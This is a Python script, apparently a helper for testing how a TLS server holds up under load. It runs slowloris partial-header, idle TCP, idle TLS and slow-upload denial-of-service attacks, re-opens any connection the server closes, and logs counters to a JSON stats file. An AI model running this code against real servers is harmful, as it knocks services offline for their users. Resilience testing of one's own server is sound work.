#!/usr/bin/env python3
"""Holds hostile connections against one TLS server until SIGTERM (a process of its own, so the
measuring client in pytest does not share its event loop or interpreter lock).

  hostile_clients.py --target 127.0.0.1:PORT --ca CA.crt --idle N --slowloris M
                     [--tls-idle K] [--uploads U --upload-bytes B] [--byte-interval 2]
                     --stats FILE

- idle: N plain TCP connections that never send a byte. When the server closes one, it is opened
  again (the attack is *held*, as a persistent attacker would); closes and re-opens are counted.
- slowloris: M connections that complete the TLS handshake (verified against --ca) and then send
  an HTTP request header one byte every --byte-interval seconds, never finishing it. Handshakes
  that do not complete within 60 s are counted as pending; connections the server closes are
  counted and opened again.
- tls-idle: K connections that complete the TLS handshake and then send nothing, held (re-opened
  when the server closes one, after 0.2 s).
- uploads: U connections that each POST a body announced as B bytes (Content-Length), send all of
  it but the last byte as fast as the server reads, then one byte per --byte-interval seconds. An
  upload the server answers or closes is counted (503s apart) and started again after 1 s.
Slowloris connections are opened first, then the idle ones (at most 200 connects in flight).
Counters go to --stats as JSON every 0.5 s and at exit.
"""
from __future__ import annotations

import argparse
import asyncio
import json
import os
import resource
import signal
import ssl
import time

HEADER = (b"POST /v1/webhook/validation HTTP/1.1\r\nHost: 127.0.0.1\r\n"
          b"Content-Type: application/json\r\nX-Slow: " + b"a" * 100000)


class Attack:
    def __init__(self, host: str, port: int, ca: str, byte_interval: float, stats_path: str):
        self.host, self.port = host, port
        self.ctx = ssl.create_default_context(cafile=ca)
        self.byte_interval = byte_interval
        self.stats_path = stats_path
        self.connect_slots = asyncio.Semaphore(200)
        self.s = {"idle_open": 0, "idle_opened": 0, "idle_closed_by_server": 0,
                  "idle_connect_errors": 0,
                  "slow_handshaking": 0, "slow_open": 0, "slow_handshakes": 0,
                  "slow_handshake_timeouts": 0, "slow_handshake_errors": 0,
                  "slow_closed_by_server": 0, "slow_bytes_sent": 0,
                  "first_slow_handshake_s": None, "last_slow_handshake_s": None,
                  "tls_idle_open": 0, "tls_idle_opened": 0, "tls_idle_closed_by_server": 0,
                  "tls_idle_connect_errors": 0,
                  "uploads_open": 0, "uploads_started": 0, "upload_bytes_sent": 0,
                  "uploads_answered_503": 0, "uploads_answered_other": 0,
                  "uploads_closed_by_server": 0, "upload_connect_errors": 0}
        self.t0 = time.monotonic()
        self.stop = asyncio.Event()

    async def connect(self, tls: bool, timeout: float, errors: str, pause: float):
        """A connection (TLS when asked) within timeout, at most 200 connects in flight; None
        after counting the failure in s[errors] and sleeping pause seconds."""
        try:
            async with self.connect_slots:
                extra = {"ssl": self.ctx, "server_hostname": self.host} if tls else {}
                return await asyncio.wait_for(
                    asyncio.open_connection(self.host, self.port, **extra), timeout)
        except Exception:  # noqa: BLE001
            self.s[errors] += 1
            await asyncio.sleep(pause)
            return None

    async def hold(self, key: str, tls: bool, connect_timeout: float, pause: float):
        """Holds one connection that sends nothing, opened again when the server closes it
        (after pause seconds); counters s[<key>_opened|_open|_closed_by_server|_connect_errors]."""
        while not self.stop.is_set():
            conn = await self.connect(tls, connect_timeout, f"{key}_connect_errors", 0.5)
            if conn is None:
                continue
            reader, writer = conn
            self.s[f"{key}_opened"] += 1
            self.s[f"{key}_open"] += 1
            try:
                stop = asyncio.create_task(self.stop.wait())
                read = asyncio.create_task(reader.read(1))
                done, _ = await asyncio.wait({stop, read}, return_when=asyncio.FIRST_COMPLETED)
                if read in done:
                    self.s[f"{key}_closed_by_server"] += 1
                for t in (stop, read):
                    t.cancel()
            except Exception:  # noqa: BLE001
                self.s[f"{key}_closed_by_server"] += 1
            finally:
                self.s[f"{key}_open"] -= 1
                writer.transport.abort()
            if pause:
                await asyncio.sleep(pause)

    async def idle(self):
        await self.hold("idle", tls=False, connect_timeout=10, pause=0)

    async def slowloris(self):
        while not self.stop.is_set():
            self.s["slow_handshaking"] += 1
            try:
                reader, writer = await asyncio.wait_for(asyncio.open_connection(
                    self.host, self.port, ssl=self.ctx, server_hostname=self.host), 60)
            except asyncio.TimeoutError:
                self.s["slow_handshaking"] -= 1
                self.s["slow_handshake_timeouts"] += 1
                continue
            except Exception:  # noqa: BLE001
                self.s["slow_handshaking"] -= 1
                self.s["slow_handshake_errors"] += 1
                await asyncio.sleep(0.5)
                continue
            self.s["slow_handshaking"] -= 1
            now = round(time.monotonic() - self.t0, 2)
            if self.s["first_slow_handshake_s"] is None:
                self.s["first_slow_handshake_s"] = now
            self.s["last_slow_handshake_s"] = now
            self.s["slow_handshakes"] += 1
            self.s["slow_open"] += 1
            read = asyncio.create_task(reader.read(1))
            try:
                for i in range(len(HEADER)):
                    if self.stop.is_set() or read.done():
                        break
                    writer.write(HEADER[i:i + 1])
                    await writer.drain()
                    self.s["slow_bytes_sent"] += 1
                    await asyncio.wait({read}, timeout=self.byte_interval)
                if read.done() and not self.stop.is_set():
                    self.s["slow_closed_by_server"] += 1
            except Exception:  # noqa: BLE001
                self.s["slow_closed_by_server"] += 1
            finally:
                read.cancel()
                self.s["slow_open"] -= 1
                writer.transport.abort()

    async def tls_idle(self):
        await self.hold("tls_idle", tls=True, connect_timeout=30, pause=0.2)

    async def upload(self, size: int):
        head = (b"POST /v1/webhook/validation HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                b"Content-Type: application/json\r\nContent-Length: " + str(size).encode() +
                b"\r\n\r\n")
        piece = b" " * (64 * 1024)
        while not self.stop.is_set():
            conn = await self.connect(True, 30, "upload_connect_errors", 1)
            if conn is None:
                continue
            reader, writer = conn
            self.s["uploads_started"] += 1
            self.s["uploads_open"] += 1
            read = asyncio.create_task(reader.read(64))
            try:
                writer.write(head)
                left = size - 1
                while left > 0 and not read.done() and not self.stop.is_set():
                    n = min(left, len(piece))
                    writer.write(piece[:n])
                    await writer.drain()
                    left -= n
                    self.s["upload_bytes_sent"] += n
                while not read.done() and not self.stop.is_set():
                    await asyncio.wait({read}, timeout=self.byte_interval)
                if read.done() and not self.stop.is_set():
                    answer = read.result() if not read.cancelled() and read.exception() is None \
                        else b""
                    if answer.startswith(b"HTTP/1.1 503"):
                        self.s["uploads_answered_503"] += 1
                    elif answer:
                        self.s["uploads_answered_other"] += 1
                    else:
                        self.s["uploads_closed_by_server"] += 1
            except Exception:  # noqa: BLE001
                self.s["uploads_closed_by_server"] += 1
            finally:
                read.cancel()
                self.s["uploads_open"] -= 1
                writer.transport.abort()
            await asyncio.sleep(1)

    def write_stats(self):
        data = dict(self.s, pid=os.getpid(), elapsed_s=round(time.monotonic() - self.t0, 2))
        tmp = self.stats_path + ".tmp"
        with open(tmp, "w") as f:
            json.dump(data, f)
        os.replace(tmp, self.stats_path)

    async def stats_writer(self):
        while not self.stop.is_set():
            self.write_stats()
            await asyncio.sleep(0.5)


async def main():
    # Both ends of each connection are descriptors; the soft limit goes up to the hard one.
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    ap = argparse.ArgumentParser()
    ap.add_argument("--target", required=True)
    ap.add_argument("--ca", required=True)
    ap.add_argument("--idle", type=int, default=0)
    ap.add_argument("--slowloris", type=int, default=0)
    ap.add_argument("--tls-idle", type=int, default=0)
    ap.add_argument("--uploads", type=int, default=0)
    ap.add_argument("--upload-bytes", type=int, default=7 * 1024 * 1024)
    ap.add_argument("--byte-interval", type=float, default=2.0)
    ap.add_argument("--stats", required=True)
    args = ap.parse_args()
    host, port = args.target.rsplit(":", 1)
    attack = Attack(host, int(port), args.ca, args.byte_interval, args.stats)
    loop = asyncio.get_running_loop()
    for sig in (signal.SIGTERM, signal.SIGINT):
        loop.add_signal_handler(sig, attack.stop.set)
    tasks = [asyncio.create_task(attack.stats_writer())]
    tasks += [asyncio.create_task(attack.slowloris()) for _ in range(args.slowloris)]
    await asyncio.sleep(0.5)  # slowloris connections first
    tasks += [asyncio.create_task(attack.idle()) for _ in range(args.idle)]
    tasks += [asyncio.create_task(attack.tls_idle()) for _ in range(args.tls_idle)]
    tasks += [asyncio.create_task(attack.upload(args.upload_bytes)) for _ in range(args.uploads)]
    await attack.stop.wait()
    await asyncio.sleep(0.2)
    for t in tasks:
        t.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    attack.write_stats()


if __name__ == "__main__":
    asyncio.run(main())
